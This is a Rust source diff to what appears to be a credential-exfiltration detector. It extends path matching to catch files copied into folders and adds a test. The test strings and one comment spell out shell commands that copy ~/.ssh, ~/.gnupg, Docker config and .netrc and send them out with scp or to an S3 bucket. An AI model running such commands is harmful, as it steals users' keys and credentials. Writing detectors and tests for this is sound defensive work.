@@ -170,9 +170,16 @@ fn store(path: &str) -> bool {
     !public && names_credential(path)
 }
 
-/// Two spellings of one path: `./k.tgz` and `k.tgz`.
-fn same_file(a: &str, b: &str) -> bool {
-    a.trim_start_matches("./") == b.trim_start_matches("./")
+/// Whether `path` is the carrier file `carrier` (`./k.tgz` and `k.tgz` are one), or a file in it when
+/// the carrier is a folder a store was copied into (`cp -r ~/.ssh /tmp/m/`, then `scp /tmp/m/id_rsa`).
+fn same_file(carrier: &str, path: &str) -> bool {
+    let carrier = carrier.trim_start_matches("./").trim_end_matches('/');
+    let path = path.trim_start_matches("./").trim_end_matches('/');
+    !carrier.is_empty()
+        && (carrier == path
+            || path
+                .strip_prefix(carrier)
+                .is_some_and(|rest| rest.starts_with('/')))
 }
 
 /// `NAME=/plain/path` (no expansion in it but `$HOME`): the path the script refers to by name.
@@ -501,6 +508,9 @@ mod tests {
         assert_eq!(lines(named).len(), 1);
         let copied = "cp ~/.docker/config.json ./c.json\ncat ~/.netrc > ./n.txt\nscp c.json n.txt u@198.51.100.9:\n";
         assert_eq!(lines(copied).len(), 1);
+        let folder =
+            "mkdir -p /tmp/m && cp -r ~/.ssh ~/.gnupg /tmp/m/\nscp -r /tmp/m u@203.0.113.8:/in/\n";
+        assert_eq!(lines(folder).len(), 1);
         let home = "tar -C ~ -czf /tmp/h.tgz .ssh\naws s3 cp /tmp/h.tgz s3://drop/h.tgz\n";
         assert_eq!(lines(home).len(), 1);
         assert_eq!(
